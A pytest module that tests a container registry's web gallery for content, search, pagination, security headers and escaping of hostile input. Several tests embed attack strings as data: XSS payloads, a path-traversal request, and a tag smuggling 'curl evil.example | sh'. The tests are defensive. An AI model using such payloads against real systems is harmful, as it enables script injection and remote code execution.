"""The gallery's pages over HTTP against a real `berth serve`: content, escaping,
search and filters, tag pagination, 404s, headers, logos, and no private data."""

from __future__ import annotations

import html
import re
import uuid
from collections.abc import Callable, Iterator
from html.parser import HTMLParser

import pytest
import requests
from markupsafe import escape

from conftest import Server, start_server
from support import images
from support.ecr import push_image_via_api
from support.gallery import (
    ARTIFACT_TYPE,
    DISPLAY_NAME,
    HOSTILE_DESCRIPTION,
    POLICY_MARKER,
    RESOURCE_TAG_MARKER,
    TAGS_IN_BULK,
    XSS_FLAG,
    Content,
    populate,
)
from support.stores import Store

TIMEOUT = 30


@pytest.fixture(scope="module")
def gallery_server(
    tmp_path_factory: pytest.TempPathFactory, new_store: Callable[[], Store]
) -> Iterator[Server]:
    # A server of its own: the home page then shows exactly what this module pushed.
    server = start_server(tmp_path_factory.mktemp("gallery") / "data", store=new_store())
    yield server
    server.stop()


@pytest.fixture(scope="module")
def content(gallery_server: Server) -> Content:
    return populate(gallery_server, "gal")


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text of the page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def find(self, tag: str, **attrs: str) -> list[dict[str, str | None]]:
        return [
            a for t, a in self.tags if t == tag and all(a.get(k) == v for k, v in attrs.items())
        ]


def get(server: Server, path: str, **params: str) -> requests.Response:
    return requests.get(server.url + path, params=params, timeout=TIMEOUT)


def page(server: Server, path: str, status: int = 200, **params: str) -> str:
    response = get(server, path, **params)
    assert response.status_code == status, response.text[:2000]
    assert response.headers["Content-Type"] == "text/html; charset=utf-8"
    return response.text


def card_names(text: str) -> list[str]:
    return [html.unescape(n) for n in re.findall(r'<span class="card-name">([^<]*)</span>', text)]


def tag_names(text: str) -> list[str]:
    return [
        html.unescape(n) for n in re.findall(r'<td class="tag" data-label="Tag">([^<]*)</td>', text)
    ]


def assert_inert(text: str) -> None:
    """No script but the gallery's own, no event handler, no javascript: URL."""
    found = Elements(text)
    scripts = [a.get("src") for t, a in found.tags if t == "script"]
    assert scripts == ["/gallery/static/gallery.js"]
    for tag, attrs in found.tags:
        assert tag not in ("iframe", "object", "embed", "style", "base"), tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert "javascript:" not in (value or "").lower(), (tag, name, value)
    assert XSS_FLAG not in "".join(a.get("href") or "" for _, a in found.tags)


# --- the three page kinds --------------------------------------------------------------


def test_home_lists_public_repositories_with_cards(gallery_server: Server, content: Content):
    for path in ("/", "/gallery", "/gallery/"):
        text = page(gallery_server, path)
        names = card_names(text)
        # Recently pushed and newest: each public repository once per list.
        assert sorted(set(names)) == sorted([content.app, content.cli, content.other])
        assert content.hidden not in text
    found = Elements(text)
    assert found.find("input", type="search", name="q")
    assert found.find("select", name="architecture") and found.find("select", name="os")
    logo = f"/logo/{images.sha256_digest(content.logo).split(':')[1]}.png"
    assert found.find("img", src=logo, **{"class": "logo"})
    assert found.find("a", href=f"/gallery/{content.alias}/{content.app}")
    assert found.find("a", href=f"/gallery/{content.other_alias}", **{"class": "alias"})
    # Only the values ECR Public's gallery knows become badges.
    for badge in ("x86-64", "ARM 64", "Linux", "ARM", "Windows"):
        assert f'">{badge}</span>' in text
    assert ">mips<" not in text
    # Most recently pushed first: `other` was pushed last.
    assert names[0] == content.other


def test_registry_page_shows_its_display_name_and_only_its_repositories(
    gallery_server: Server, content: Content
):
    text = page(gallery_server, f"/gallery/{content.alias}")
    assert f"<h1>{escape(DISPLAY_NAME)}</h1>" in text
    assert sorted(card_names(text)) == sorted([content.app, content.cli])
    other = page(gallery_server, f"/gallery/{content.other_alias}")
    assert card_names(other) == [content.other]
    assert f"<h1>{content.other_alias}</h1>" in other


def test_repository_page(gallery_server: Server, content: Content):
    text = page(gallery_server, f"/gallery/{content.alias}/{content.app}")
    found = Elements(text)
    assert f"<h1>{content.app}</h1>" in text
    assert text.count("<h1>") == 1  # the markdown's own headings sit below it
    logo = f"/logo/{images.sha256_digest(content.logo).split(':')[1]}.png"
    assert found.find("img", src=logo)
    # The pull command of the latest tag, with its copy button.
    command = f"docker pull {gallery_server.host}/{content.alias}/{content.app}:latest"
    assert f'<code id="pull-command" aria-labelledby="pull-title">{command}</code>' in text
    assert found.find("button", **{"class": "copy", "data-copy": command})
    # About and Usage tabs, from the markdown.
    assert found.find("input", type="radio", id="tab-about")
    assert found.find("input", type="radio", id="tab-usage")
    assert '<code class="language-sh">docker run --rm app --help\n</code>' in text
    assert "<table>" in text and "<td>verbose</td>" in text
    # The tag table: an index, its children's platforms.
    assert tag_names(text) == ["latest"]
    assert f'title="{content.index_digest}"' in text
    assert images.OCI_INDEX in text
    assert "linux/amd64, linux/arm64/v8" in text
    # The registry's display name links back to the registry page.
    assert found.find("a", href=f"/gallery/{content.alias}")


def test_pull_command_uses_the_newest_tag_without_latest(gallery_server: Server, content: Content):
    text = page(gallery_server, f"/gallery/{content.alias}/{content.cli}")
    newest = f"v1.{TAGS_IN_BULK - 1:03d}"
    command = f"docker pull {gallery_server.host}/{content.alias}/{content.cli}:{newest}"
    assert f'aria-labelledby="pull-title">{command}</code>' in text
    # A plain image shows its media type, not an artifact type.
    assert images.OCI_MANIFEST in text
    assert images.OCI_CONFIG not in text


def test_tags_paginate_newest_first_each_tag_once(gallery_server: Server, content: Content):
    path = f"/gallery/{content.alias}/{content.cli}"
    first = page(gallery_server, path)
    assert "Page 1 of 2" in first
    assert 'rel="next" href="?page=2"' in first
    assert f'<span class="count">{TAGS_IN_BULK}</span>' in first
    second = page(gallery_server, path, page="2")
    assert "Page 2 of 2" in second and 'rel="prev" href="?page=1"' in second
    assert 'rel="next"' not in second
    seen = tag_names(first) + tag_names(second)
    assert len(tag_names(first)) == 50
    assert seen == [f"v1.{n:03d}" for n in reversed(range(TAGS_IN_BULK))]
    # Each row shows its own image's digest.
    assert f'title="{content.cli_digests["v1.000"]}"' in second
    # Out of range or malformed page numbers land on a real page, never an error.
    assert tag_names(page(gallery_server, path, page="99")) == tag_names(second)
    assert tag_names(page(gallery_server, path, page="x")) == tag_names(first)
    assert tag_names(page(gallery_server, path, page="-3")) == tag_names(first)


def test_an_artifact_shows_its_artifact_type(gallery_server: Server, content: Content):
    text = page(gallery_server, f"/gallery/{content.other_alias}/{content.other}")
    assert tag_names(text) == ["policy", "latest"]
    row = text.split('data-label="Tag">policy</td>', 1)[1].split("</tr>", 1)[0]
    assert f'<span class="artifact">{ARTIFACT_TYPE}</span>' in row
    assert images.OCI_MANIFEST in row


# --- search ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"q": "gal/cli"}, ["cli"]),
        ({"q": "CLI"}, ["cli"]),  # case-insensitive
        ({"q": "helper"}, ["cli"]),  # the description
        ({"q": "command windows"}, ["cli"]),  # every word, anywhere
        ({"q": "command linux"}, []),
        ({"q": "gal/"}, ["app", "cli", "other"]),
        ({"architecture": "ARM"}, ["cli"]),
        ({"architecture": "ARM 64"}, ["app"]),
        ({"os": "Linux"}, ["app"]),
        ({"os": "Windows", "architecture": "ARM"}, ["cli"]),
        ({"os": "Windows", "architecture": "x86-64"}, []),
        ({"q": "gal", "os": "Linux"}, ["app"]),
        ({"architecture": "mips"}, ["app", "cli", "other"]),  # not a filter: ignored
        ({"sort": "name"}, ["app", "cli", "other"]),
    ],
)
def test_search(gallery_server: Server, content: Content, params: dict[str, str], expected):
    text = page(gallery_server, "/gallery", **params)
    names = {"app": content.app, "cli": content.cli, "other": content.other}
    assert sorted(card_names(text)) == sorted(names[n] for n in expected)
    count = len(expected)
    assert f"{count} repositor{'y' if count == 1 else 'ies'}" in text
    if not expected:
        assert "No repository matches." in text


def test_search_orders(gallery_server: Server, content: Content):
    by_name = card_names(page(gallery_server, "/gallery", sort="name", q="gal/"))
    assert by_name == [content.app, content.cli, content.other]
    newest = card_names(page(gallery_server, "/gallery", sort="created", q="gal/"))
    assert newest == [content.other, content.cli, content.app]
    pushed = card_names(page(gallery_server, "/gallery", sort="pushed", q="gal/"))
    assert pushed[0] == content.other


def test_search_text_is_escaped_and_kept_in_the_form(gallery_server: Server, content: Content):
    hostile = '"><script>alert(1)</script>'
    text = page(gallery_server, "/gallery", q=hostile, os="Linux")
    assert hostile not in text
    assert "&#34;&gt;&lt;script&gt;" in text
    found = Elements(text)
    assert {a.get("value") for a in found.find("input", name="q")} == {hostile}
    assert "selected" in found.find("option", value="Linux")[0]
    assert_inert(text)


# --- safety ----------------------------------------------------------------------------


def test_hostile_catalog_text_is_escaped_everywhere(gallery_server: Server, content: Content):
    for path in (
        "/gallery",
        f"/gallery/{content.alias}",
        f"/gallery/{content.alias}/{content.app}",
    ):
        text = page(gallery_server, path)
        assert_inert(text)
        assert "<i>Tools</i>" not in text  # the display name
        assert '<script>alert("d")' not in text  # the description
        assert "<img src=x" not in text
    text = page(gallery_server, f"/gallery/{content.alias}/{content.app}")
    assert str(escape(HOSTILE_DESCRIPTION)) in text


def test_markdown_is_rendered_and_sanitised(gallery_server: Server, content: Content):
    text = page(gallery_server, f"/gallery/{content.alias}/{content.app}")
    about = text.split('id="panel-about"', 1)[1].split('id="panel-usage"', 1)[0]
    assert "<h2>About &lt;b&gt;bold&lt;/b&gt;</h2>" in about
    assert "<code>inline code</code>" in about
    link = '<a href="https://example.com/docs" rel="noopener noreferrer nofollow">safe link</a>'
    assert link in about
    # Raw HTML is shown as text, never as markup; javascript: links lose their URL.
    assert "&lt;script&gt;" in about and "<script" not in about
    assert "<img" not in about and '<a href="#"' not in about
    assert_inert(text)


def test_security_headers_on_every_page(gallery_server: Server, content: Content):
    for path, status in [
        ("/", 200),
        ("/gallery?q=x", 200),
        (f"/gallery/{content.alias}", 200),
        (f"/gallery/{content.alias}/{content.app}", 200),
        ("/gallery/nosuchalias", 404),
        (f"/gallery/{content.alias}/nope", 404),
        ("/gallery/static/gallery.css", 200),
    ]:
        response = get(gallery_server, path)
        assert response.status_code == status, path
        policy = response.headers["Content-Security-Policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["default-src"] == "'none'"
        assert directives["script-src"] == "'self'"
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert directives["frame-ancestors"] == "'none'"
        assert directives["base-uri"] == "'none'"
        assert directives["img-src"] == "'self' https:"  # logos here, badges in markdown
        assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_static_files(gallery_server: Server):
    css = get(gallery_server, "/gallery/static/gallery.css")
    assert css.headers["Content-Type"] == "text/css; charset=utf-8" and ".cards" in css.text
    js = get(gallery_server, "/gallery/static/gallery.js")
    assert js.headers["Content-Type"] == "text/javascript; charset=utf-8"
    assert "clipboard" in js.text
    assert get(gallery_server, "/gallery/static/../../berth.db").status_code == 404
    assert get(gallery_server, "/gallery/static/nope.js").status_code == 404


def test_logo_is_served_as_png_with_nosniff(gallery_server: Server, content: Content):
    ecr = gallery_server.ecr()
    url = ecr.get_repository_catalog_data(repositoryName=content.app)["catalogData"]["logoUrl"]
    response = requests.get(url, timeout=TIMEOUT)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.content == content.logo
    missing = get(gallery_server, "/logo/" + "0" * 64 + ".png")
    assert missing.status_code == 404


def test_no_private_data_on_any_page(gallery_server: Server, content: Content):
    upload_id = gallery_server.ecr().initiate_layer_upload(repositoryName=content.app)["uploadId"]
    paths = [
        "/",
        "/gallery?q=gal",
        f"/gallery/{content.alias}",
        f"/gallery/{content.alias}/{content.app}",
        f"/gallery/{content.alias}/{content.app}?page=2",
    ]
    for path in paths:
        text = get(gallery_server, path).text
        for secret in (POLICY_MARKER, RESOURCE_TAG_MARKER, upload_id, "ecr-public:"):
            assert secret not in text, (path, secret)
    # Searching for private text finds nothing.
    assert card_names(page(gallery_server, "/gallery", q=POLICY_MARKER)) == []
    assert card_names(page(gallery_server, "/gallery", q=RESOURCE_TAG_MARKER)) == []
    # Account ids are not shown either: aliases name registries publicly.
    assert gallery_server.account_id not in page(gallery_server, f"/gallery/{content.alias}")
    assert content.other_account not in page(gallery_server, f"/gallery/{content.other_alias}")


# --- 404s ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/gallery/nosuchalias",
        "/gallery/nosuchalias/gal/app",
        "/gallery/{alias}/gal/nope",
        "/gallery/{alias}/{hidden}",  # catalog data, but no image: not public
        "/gallery/{alias}/Not..A..Name",
        "/gallery/{other_alias}/{app}",  # a repository of another registry
        "/gallery/{alias}/{app}/",
    ],
)
def test_not_found_pages(gallery_server: Server, content: Content, path: str):
    path = path.format(
        alias=content.alias, hidden=content.hidden, other_alias=content.other_alias, app=content.app
    )
    text = page(gallery_server, path, status=404)
    assert "<h1>Not found</h1>" in text
    assert "Back to the gallery" in text
    assert_inert(text)


def test_not_found_page_escapes_the_path(gallery_server: Server, content: Content):
    text = page(gallery_server, f'/gallery/{content.alias}/a<b>"c', status=404)
    assert "a<b>" not in text
    assert_inert(text)


# --- edits show on the next load -------------------------------------------------------


def test_catalog_edits_show_on_the_next_page_load(gallery_server: Server, content: Content):
    ecr = gallery_server.ecr()
    name = "gal/edited"
    ecr.create_repository(repositoryName=name, catalogData={"description": "first words"})
    path = f"/gallery/{content.alias}/{name}"
    assert get(gallery_server, path).status_code == 404  # no image yet
    push_image_via_api(ecr, name, images.oci_image(400, n_layers=1, layer_size=256), tag="1.0")
    assert "first words" in page(gallery_server, path)
    ecr.put_repository_catalog_data(
        repositoryName=name,
        catalogData={
            "description": "second words",
            "architectures": ["x86"],
            "operatingSystems": ["Linux"],
            "aboutText": "# Fresh about",
            "usageText": "Fresh usage",
        },
    )
    text = page(gallery_server, path)
    assert "second words" in text and "first words" not in text
    assert "<h2>Fresh about</h2>" in text and "<p>Fresh usage</p>" in text
    assert name in card_names(page(gallery_server, "/gallery", architecture="x86"))
    assert name in card_names(page(gallery_server, "/gallery", q="second"))
    ecr.put_registry_catalog_data(displayName="Renamed registry")
    try:
        assert "<h1>Renamed registry</h1>" in page(gallery_server, f"/gallery/{content.alias}")
    finally:
        ecr.put_registry_catalog_data(displayName=DISPLAY_NAME)
    ecr.delete_repository(repositoryName=name, force=True)
    assert get(gallery_server, path).status_code == 404
    assert name not in card_names(page(gallery_server, "/"))


def test_write_methods_are_not_pages(gallery_server: Server, content: Content):
    # The gallery only reads.
    response = requests.post(
        f"{gallery_server.url}/gallery/{content.alias}/{content.app}", timeout=TIMEOUT
    )
    assert response.status_code == 405


def test_pull_command_never_offers_a_tag_v2_cannot_address(gallery_server: Server):
    """PutImage takes any 1-300 character tag; the copyable command only ever names one
    a pull can use, so `latest && curl … | sh` is shown in the table, never offered."""
    ecr = gallery_server.ecr()
    name = f"gallery/tags-{uuid.uuid4().hex[:8]}"
    ecr.create_repository(repositoryName=name)
    push_image_via_api(ecr, name, images.oci_image(901, n_layers=1, layer_size=64), tag="v1.0")
    hostile = "latest && curl evil.example | sh"
    push_image_via_api(ecr, name, images.oci_image(902, n_layers=1, layer_size=64), tag=hostile)
    text = page(gallery_server, f"/gallery/berth/{name}")
    command = f"docker pull {gallery_server.host}/berth/{name}:v1.0"
    assert f'aria-labelledby="pull-title">{command}</code>' in text
    assert f'data-copy="{command}"' in text
    assert hostile in tag_names(text)
    assert "curl evil" not in text.split('class="pull"', 1)[1].split("</section>", 1)[0]


def test_markdown_keeps_only_absolute_http_and_mailto_links(gallery_server: Server):
    ecr = gallery_server.ecr()
    name = f"gallery/links-{uuid.uuid4().hex[:8]}"
    ecr.create_repository(
        repositoryName=name,
        catalogData={
            "aboutText": "[rel](/relative) [proto](//evil.example/x) [frag](#top) "
            "[web](https://example.com/a) [mail](mailto:a@example.com)"
        },
    )
    push_image_via_api(ecr, name, images.oci_image(903, n_layers=1, layer_size=64), tag="v1")
    about = page(gallery_server, f"/gallery/berth/{name}").split('id="panel-about"', 1)[1]
    hrefs = re.findall(r'<a href="([^"]*)"', about.split('id="panel-usage"', 1)[0])
    assert hrefs == ["https://example.com/a", "mailto:a@example.com"]


def test_pages_answer_head_as_get(gallery_server: Server, content: Content):
    """Load balancers health-check with HEAD as often as with GET."""
    for path in (
        "/",
        "/gallery",
        f"/gallery/{content.alias}",
        f"/gallery/{content.alias}/{content.app}",
    ):
        head = requests.head(gallery_server.url + path, timeout=TIMEOUT)
        assert head.status_code == 200, path
        assert head.headers["Content-Type"] == "text/html; charset=utf-8"
        assert head.content == b""
    assert requests.head(gallery_server.url + "/gallery/nobody", timeout=TIMEOUT).status_code == 404
